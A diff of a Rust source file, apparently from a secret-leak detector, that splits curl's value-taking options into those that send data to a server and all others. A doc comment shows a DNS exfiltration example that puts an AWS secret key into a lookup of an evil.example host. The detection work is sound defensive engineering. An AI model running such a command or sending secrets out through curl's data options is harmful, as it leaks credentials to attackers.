@@ -322,43 +322,50 @@ fn arguments_secret(command: &Command, short: &[&str], long: &[&str]) -> Option<
     None
 }
 
+/// curl's options whose value it sends as the request's data: the body, a form, the query, and
+/// the user agent and referer, which the server logs.
+const CURL_DATA: &[&str] = &[
+    "data",
+    "data-binary",
+    "data-ascii",
+    "data-raw",
+    "data-urlencode",
+    "json",
+    "form",
+    "form-string",
+    "url-query",
+    "user-agent",
+    "referer",
+];
+
+/// curl's other options that take a value.
+const CURL_OTHER_VALUES: &[&str] = &[
+    "upload-file",
+    "header",
+    "user",
+    "output",
+    "request",
+    "cookie",
+    "cookie-jar",
+    "config",
+    "max-time",
+    "proxy",
+    "write-out",
+    "url",
+    "connect-timeout",
+    "retry",
+    "cert",
+    "key",
+    "cacert",
+    "resolve",
+    "oauth2-bearer",
+    "proxy-user",
+];
+
+const CURL_VALUES: [&str; CURL_DATA.len() + CURL_OTHER_VALUES.len()] = super::joined(CURL_DATA, CURL_OTHER_VALUES);
+
 /// How curl's options take values.
-const CURL_OPTIONS: Options = Options::gnu(
-    "dFTHuoXeKrwAbcCEmxyYzQU",
-    &[
-        "data",
-        "data-binary",
-        "data-ascii",
-        "data-raw",
-        "data-urlencode",
-        "json",
-        "form",
-        "form-string",
-        "upload-file",
-        "header",
-        "user",
-        "output",
-        "request",
-        "user-agent",
-        "referer",
-        "cookie",
-        "cookie-jar",
-        "config",
-        "max-time",
-        "proxy",
-        "write-out",
-        "url",
-        "connect-timeout",
-        "retry",
-        "cert",
-        "key",
-        "cacert",
-        "resolve",
-        "oauth2-bearer",
-        "proxy-user",
-        "url-query",
-    ],
-);
+const CURL_OPTIONS: Options = Options::gnu("dFTHuoXeKrwAbcCEmxyYzQU", &CURL_VALUES);
 
 /// A variable holding a secret by its name in an argument a program sends as text (`host
 /// $AWS_SECRET_ACCESS_KEY.evil.example`).
